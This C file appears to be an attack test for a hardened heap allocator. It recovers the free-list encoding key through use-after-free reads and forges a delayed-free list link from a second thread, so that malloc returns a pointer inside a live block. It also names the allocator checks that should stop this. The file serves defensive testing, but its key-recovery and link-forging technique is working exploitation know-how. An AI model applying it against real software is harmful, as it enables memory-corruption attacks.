/* delayed_forge: forge the link of a block waiting on a heap's delayed-free
 * list so that the owner frees an interior pointer of a live block.
 *
 * Bug modelled: use-after-free reads of two freed blocks (key recovery, as
 * in keyrec_forge), then a use-after-free write into a block that another
 * thread freed into a full page.
 *
 * Steps:
 *  1. Fill a page P of 8192-byte blocks; free X, A, B of it, read two links,
 *     solve for key0 and the rotation; allocate until X, A, B are back and a
 *     block lands on a new page (so P is in the full queue, USE_DELAYED).
 *  2. Thread T frees D of P: it goes onto the owner heap's delayed list with
 *     link encode(D -> NULL) (checked against the recovered keys).
 *  3. *D = encode(D -> V + 16) for a live V of P, and V's word at +16 =
 *     encode(V + 16 -> NULL). Delayed links are only checked to point into
 *     some hardheap segment, and blocks from the delayed list are freed
 *     without the pointer checks of free().
 *  4. The owner's next generic-path call (a large malloc) drains the list:
 *     D and then V + 16 go onto P's local_free.
 *  5. malloc(8192) until V + 16 comes back.
 * WIN: malloc returns V + 16, overlapping the live block V.
 * Defence that should stop it: validate each delayed-list link like a page
 * link (block boundary of its own page, via the page of the block), or
 * run blocks from the delayed list through the same pointer check as
 * free() (interior pointer, double free). */
/* ---- harness (every attack file carries its own copy) ------------------- */
#define _GNU_SOURCE
#include <malloc.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define MIB ((uintptr_t)1 << 20)
#define SEG ((uintptr_t)4 << 20) /* hardheap segment size and alignment */

static void say(const char* prefix, const char* fmt, va_list ap) {
  char buf[600];
  int n = snprintf(buf, sizeof buf, "%s", prefix);
  int m = vsnprintf(buf + n, sizeof buf - (size_t)n - 1, fmt, ap);
  if (m < 0) m = 0;
  n += m;
  if (n > (int)sizeof buf - 2) n = (int)sizeof buf - 2;
  buf[n++] = '\n';
  if (write(1, buf, (size_t)n) < 0) _exit(5);
}
__attribute__((unused)) static void note(const char* fmt, ...) {
  va_list ap;
  va_start(ap, fmt);
  say("note: ", fmt, ap);
  va_end(ap);
}
__attribute__((unused)) static _Noreturn void win(const char* fmt, ...) {
  va_list ap;
  va_start(ap, fmt);
  say("ATTACK WIN: ", fmt, ap);
  va_end(ap);
  _exit(0);
}
__attribute__((unused)) static _Noreturn void lost(const char* fmt, ...) {
  va_list ap;
  va_start(ap, fmt);
  say("ATTACK LOST: ", fmt, ap);
  va_end(ap);
  _exit(3);
}
static void on_alarm(int sig) {
  (void)sig;
  static const char msg[] = "ATTACK HANG: the allocator did not return within the time limit\n";
  if (write(1, msg, sizeof msg - 1) < 0) _exit(5);
  _exit(4);
}
static void start(unsigned seconds) {
  signal(SIGALRM, on_alarm);
  alarm(seconds);
}
/* Pointers go through a volatile slot so the compiler cannot see the
 * use-after-free or the bad free (the bug being modelled). */
static void* volatile launder_slot;
__attribute__((unused)) static void* hide(void* p) {
  launder_slot = p;
  return launder_slot;
}
__attribute__((unused)) static uintptr_t peek(const void* p) { return *(const volatile uintptr_t*)p; }
__attribute__((unused)) static void poke(void* p, uintptr_t v) { *(volatile uintptr_t*)p = v; }
/* ------------------------------------------------------------------------- */
#include <pthread.h>

#define SIZE 8192

static uintptr_t rotl(uintptr_t x, unsigned r) { r &= 63; return r == 0 ? x : (x << r) | (x >> (64 - r)); }
static uintptr_t rotr(uintptr_t x, unsigned r) { r &= 63; return r == 0 ? x : (x >> r) | (x << (64 - r)); }
static void* remote_free(void* p) {
  free(p);
  return NULL;
}

int main(void) {
  start(10);
  static uintptr_t blk[400];
  int n = 0;
  for (; n < 40; n++) blk[n] = (uintptr_t)hide(malloc(SIZE));
  /* a full page of ours: 8 blocks at a 64 KiB boundary (not page 0) */
  uintptr_t P = 0, pb[8];
  for (int i = 0; i < n && P == 0; i++) {
    uintptr_t s = blk[i] & ~(uintptr_t)0xffff;
    if ((s & (SEG - 1)) == 0) continue;
    int c = 0;
    for (int j = 0; j < n; j++)
      if ((blk[j] & ~(uintptr_t)0xffff) == s && c < 8) pb[c++] = blk[j];
    if (c == 8) P = s;
  }
  if (P == 0) lost("no full page of 8192-byte blocks");
  uintptr_t X = pb[0], A = pb[1], B = pb[2], D = pb[3], V = pb[4];
  free(hide((void*)X));
  free(hide((void*)A));
  free(hide((void*)B));
  uintptr_t ea = peek((void*)A), eb = peek((void*)B);
  int plain = (ea == X && eb == A);
  uintptr_t k0 = 0;
  unsigned r = 0;
  if (!plain) {
    int ok = 0;
    for (unsigned rr = 1; rr < 64 && !ok; rr += 2) {
      k0 = rotr(eb, rr) ^ A ^ B;
      r = rr;
      ok = (rotr(ea, rr) ^ X ^ A) == k0;
    }
    if (!ok) lost("no key fits");
  }
  /* get X, A, B back and push P into the full queue: allocate until a block
   * lands on a page never seen before (every page before it was full) */
  int back = 0, fresh = 0;
  while (n < 400 && !(back == 3 && fresh)) {
    uintptr_t q = (uintptr_t)hide(malloc(SIZE));
    back += (q == X || q == A || q == B);
    int seen = 0;
    for (int j = 0; j < n; j++) seen |= (blk[j] & ~(uintptr_t)0xffff) == (q & ~(uintptr_t)0xffff);
    if (!seen && back == 3) fresh = 1;
    blk[n++] = q;
  }
  if (!(back == 3 && fresh)) lost("could not refill the page");

  pthread_t t;
  pthread_create(&t, NULL, remote_free, (void*)D); /* D: onto the delayed list */
  pthread_join(t, NULL);
  uintptr_t want = plain ? 0 : rotl(0 ^ k0 ^ D, r);
  if (peek((void*)D) != want) note("D's link is %#lx, expected %#lx", (unsigned long)peek((void*)D), (unsigned long)want);

  uintptr_t target = V + 16;
  poke((void*)D, plain ? target : rotl(target ^ k0 ^ D, r)); /* use-after-free write */
  poke((void*)target, plain ? 0 : rotl(0 ^ k0 ^ target, r)); /* V's own data */
  free(hide(malloc(100000))); /* a generic-path call: the delayed list is drained */
  for (int k = 0; k < 200; k++) {
    uintptr_t q = (uintptr_t)hide(malloc(SIZE));
    if (q == target) win("malloc(%d) returned %p, inside the live block %p", SIZE, (void*)q, (void*)V);
  }
  lost("the interior pointer never came back");
}
